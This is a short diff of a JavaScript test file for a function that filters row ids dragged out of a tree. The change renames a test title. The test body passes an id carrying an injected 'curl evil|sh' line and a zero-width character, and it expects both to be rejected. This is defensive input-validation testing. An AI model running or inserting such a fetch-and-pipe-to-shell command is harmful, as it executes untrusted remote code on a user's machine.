@@ -22,7 +22,7 @@ describe('rows that are dragged out of the tree', () => {
     assert.equal(dropped('R1', 'R2', 'R1'), 'R1\nR2');
   });
 
-  it('do not drop an id that contains what cannot be seen', () => {
+  it('do not drop an id that contains invisible characters', () => {
     assert.equal(dropped('R1\ncurl evil|sh\n', 'R2', 'R3\u200b'), 'R2');
     assert.equal(dropped('R1\n'), undefined);
   });
